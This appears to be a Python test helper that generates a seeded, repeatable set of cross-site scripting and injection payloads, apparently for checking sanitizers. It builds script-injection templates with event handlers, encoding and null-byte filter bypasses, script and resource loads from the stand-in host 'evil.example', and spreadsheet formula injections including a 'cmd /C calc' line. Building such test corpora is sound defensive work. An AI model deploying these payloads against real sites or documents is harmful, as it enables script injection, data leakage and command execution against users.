"""Texts that try to become code, made anew on every run from one seed: always the same ones."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote

MARK = "window.__hit=(window.__hit||0)+1"
OUTSIDE = "https://evil.example/"

# What may stand before: whatever the text is put into, one of these ends it.
_ENDINGS = (
    "", "", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "//\n", "\n", "\r\n", "\t", "\\",
    "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</svg>",
    "</table>", "</select>", "\u2028", "\u2029", "${", "{{", "{%", "\x00", "\ufeff", "\u202e",
    "\u2066", "\ud800", "\udc00", "\ufffe", "&quot;&gt;", "%22%3E", "\\u003c/script\\u003e", "=",
    "-",
)  # fmt: skip
_ENDS = ("", "", "//", "<!--", "/*", "}", "}}", "%}", '"', "'", "`", ">", "\\", "\u202c", "\udfff")
_EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart",
    "onpointerenter", "onbegin", "onstart", "onpageshow", "onscroll", "onwheel", "oninput",
)  # fmt: skip
_ELEMENTS = (
    # Often what fires by itself, so that a hole in one field is met by many.
    *("<img src=x onerror={code}>",) * 8,
    "<img src=x {event}={code}>",
    "<svg {event}={code}></svg>",
    "<svg><animate {event}={code} attributeName=x dur=1s></svg>",
    "<svg><script>{code}</script></svg>",
    "<script>{code}</script>",
    "<script src={url}></script>",
    "<body {event}={code}>",
    "<input autofocus {event}={code}>",
    "<details open {event}={code}>x</details>",
    "<video><source {event}={code}></video>",
    "<audio src=x {event}={code}></audio>",
    "<iframe src='javascript:parent.eval(\"{code}\")'></iframe>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<a href='javascript:{code}'>x</a>",
    "<form action={url}><input type=submit {event}={code}></form>",
    "<math><mi xlink:href='javascript:{code}'>x</mi></math>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<link rel=stylesheet href={url}x.css>",
    "<style>@import '{url}x.css';*{{background:url({url}y.png)}}</style>",
    "<template><img src=x {event}={code}></template>",
    "<noscript><p title='</noscript><img src=x {event}={code}>'></noscript>",
    "<marquee {event}={code}>x</marquee>",
    "<img src={url}z.png>",
    "<div style='background:url({url}w.png)' {event}={code}>x</div>",
    "<dialog open {event}={code}>x</dialog>",
    "javascript:{code}",
    "data:text/html,<script>{code}</script>",
    "{code}",
    "constructor.constructor('{code}')()",
    "__proto__",
    '=HYPERLINK("{url}","x")',
    "=cmd|' /C calc'!A0",
    "[x](javascript:{code})",
    "![x]({url}p.png)",
)  # fmt: skip
_CODES = (MARK, MARK, MARK, f"{{{MARK}}}", f"alert({MARK})", f"eval('{MARK}')", f"({MARK})")


def _dressed(text: str, dice: random.Random) -> str:
    """The same text, or a form of it that some decoder on the way may turn back."""
    way = dice.randrange(10)
    if way == 0:
        return text.replace("<", "&lt;").replace(">", "&gt;")
    if way == 1:
        return text.replace("<", "\\u003c")
    if way == 2:
        return quote(text)
    if way == 3:
        return "".join(c.upper() if dice.random() < 0.3 else c for c in text)
    if way == 4:
        return text.replace("<", "<\x00").replace("script", "scr\x00ipt")
    return text


def generated(number: int, seed: int = 20261122) -> list[str]:
    """So many different payloads."""
    dice = random.Random(seed)  # noqa: S311  repeatable, not secret
    found: dict[str, None] = {}
    while len(found) < number:
        found[next(_one(dice))] = None
    return list(found)


def _one(dice: random.Random) -> Iterator[str]:
    code = dice.choice(_CODES)
    body = dice.choice(_ELEMENTS).format(event=dice.choice(_EVENTS), code=code, url=OUTSIDE)
    yield dice.choice(_ENDINGS) + _dressed(body, dice) + dice.choice(_ENDS)
